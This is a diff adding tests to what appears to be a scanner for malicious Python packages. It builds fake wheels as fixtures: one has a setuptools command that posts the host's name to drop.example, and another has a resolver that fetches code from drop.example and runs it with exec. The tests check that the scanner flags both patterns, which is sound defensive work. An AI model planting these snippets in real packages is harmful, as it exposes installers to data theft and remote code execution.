@@ -174,6 +174,65 @@ class PypiTriggersTest {
   }
 
   @Test
+  void commandsOfABuildRunAndOthersWaitUntilSomebodyNamesThem() throws IOException {
+    assertThat(rules(inspect(command("build_py")))).contains("install-reports-the-machine");
+    assertThat(inspect(command("fetch_all")).verdict()).isEqualTo(Verdict.CLEAN);
+  }
+
+  private static Artifact command(String name) {
+    return Artifact.wheel("demo", "1.0")
+        .file("demo/__init__.py", "")
+        .file(
+            "demo/plug.py",
+            """
+            import socket, requests
+            from setuptools import Command
+            class Tell(Command):
+                def run(self):
+                    requests.post('http://drop.example/', json={'h': socket.gethostname()})
+            """)
+        .file(
+            "demo-1.0.dist-info/entry_points.txt",
+            "[distutils.commands]\n" + name + " = demo.plug:Tell\n");
+  }
+
+  /** As setuptools resolves what is there at import and installs what is missing when asked. */
+  @Test
+  void whatIsHandedOverRunsForWhoeverHandedItOver() throws IOException {
+    assertThat(inspect(resolver("")).verdict()).isEqualTo(Verdict.CLEAN);
+    for (String start :
+        List.of(
+            "install()\n",
+            "resolve(['x'], fetched)\n",
+            "resolve(['x'], lambda name: fetched(name))\n",
+            "resolve(['x'], installer=fetched)\n",
+            "from functools import partial\nresolve(['x'], partial(fetched))\n",
+            "handed = fetched\nresolve(['x'], handed)\n")) {
+      assertThat(rules(inspect(resolver(start)))).as(start).contains("import-runs-fetched-code");
+    }
+  }
+
+  private static Artifact resolver(String start) {
+    return Artifact.wheel("demo", "1.0")
+        .file(
+            "demo/__init__.py",
+            """
+            import requests
+            def obtain(name, installer=None):
+                if installer is not None:
+                    return installer(name)
+            def resolve(names, installer=None):
+                return [obtain(name, installer) for name in names]
+            def fetched(name):
+                exec(requests.get('https://drop.example/' + name).text)
+            def install():
+                resolve(['a'], fetched)
+            resolve(['b'])
+            """
+                + start);
+  }
+
+  @Test
   void aRecordThatLiesIsSaid() throws IOException {
     Artifact forged =
         Artifact.wheel("demo", "1.0")
